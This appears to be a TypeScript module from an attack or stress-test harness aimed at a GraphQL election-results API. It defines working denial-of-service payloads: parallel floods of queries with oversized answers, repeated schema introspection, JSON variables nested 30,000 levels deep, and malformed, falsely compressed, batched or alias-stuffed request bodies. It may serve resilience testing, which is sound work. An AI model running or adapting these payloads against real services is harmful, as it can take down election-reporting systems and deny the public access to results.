import { post, repeat, type Attack } from './attack.js'

const WINDOWS = Array.from({ length: 12 }, (_, at) => `t${at}: timeline(window: { kind: TUMBLING, size: "PT10S" }) { start end ballots }`).join('\n')
const GREEDY = `query ($id: ID!) { election(id: $id) { results { ${WINDOWS} turnoutByUnit(first: 200) { nodes { reportingUnit { id name } ballots } } } } }`

/** Small documents whose answers are large: many timelines of many windows. */
export const greedyDocuments: Attack = async (tools) => repeat(tools, (_turn, lane) =>
  post(tools, JSON.stringify({ query: GREEDY, variables: { id: tools.target.electionId } }), { lane }), { lanes: 10, pauseMs: 5 })

const INTROSPECTION = `{ ${Array.from({ length: 15 }, (_, at) => `s${at}: __schema { types { name fields { name description args { name type { name } } type { name kind ofType { name } } } } }`).join(' ')} }`
const REPEATED = `{ election(slug: "nowhere") { ${'parties { id } '.repeat(49)} } }`

/** Documents that cost much before anything is answered: the schema many times over, and ever new ones that take long to validate. */
export const costlyDocuments: Attack = async (tools) => repeat(tools, (turn) =>
  post(tools, JSON.stringify({ query: turn % 10 === 0 ? INTROSPECTION : `${REPEATED} # ${turn}` })), { lanes: 10, pauseMs: 5 })

const DEPTH = 30_000
const NESTED = `{"query":"query($v: Int){ __typename }","variables":{"v":${'['.repeat(DEPTH)}"\\u0000"${']'.repeat(DEPTH)}}}`

/** Variables nested 30,000 deep, with a NUL at the bottom. */
export const nestedJson: Attack = async (tools) => repeat(tools, () => post(tools, NESTED), { pauseMs: 20 })

/** Bodies that are no requests: cut off, of other kinds, packed, or with directives and aliases by the hundred. */
export const oddBodies: Attack = async (tools) => {
  const bodies: readonly (readonly [string | Buffer, Record<string, string>])[] = [
    ['{"query":"{ elections', { 'content-type': 'application/json' }],
    ['query={__typename}', { 'content-type': 'application/x-www-form-urlencoded' }],
    [Buffer.alloc(2_000, 31), { 'content-type': 'application/json', 'content-encoding': 'gzip' }],
    [JSON.stringify({ query: `{ __typename ${'@skip(if: false) '.repeat(800)} }` }), { 'content-type': 'application/json' }],
    [JSON.stringify({ query: `{ ${Array.from({ length: 2_000 }, (_, at) => `a${at}: __typename`).join(' ')} }` }), { 'content-type': 'application/json' }],
    [JSON.stringify(Array.from({ length: 50 }, () => ({ query: '{ __typename }' }))), { 'content-type': 'application/json' }],
    [JSON.stringify({ query: 'subscription { electionChanged(electionId: "x") { id } }' }), { 'content-type': 'application/json', accept: 'multipart/mixed' }],
    [Buffer.alloc(3 * 1024 * 1024, 'x'), { 'content-type': 'application/json' }],
  ]
  await repeat(tools, async (turn) => {
    const [body, headers] = bodies[turn % bodies.length] ?? ['', {}]
    await post(tools, body, { headers })
  }, { lanes: 2, pauseMs: 20 })
}
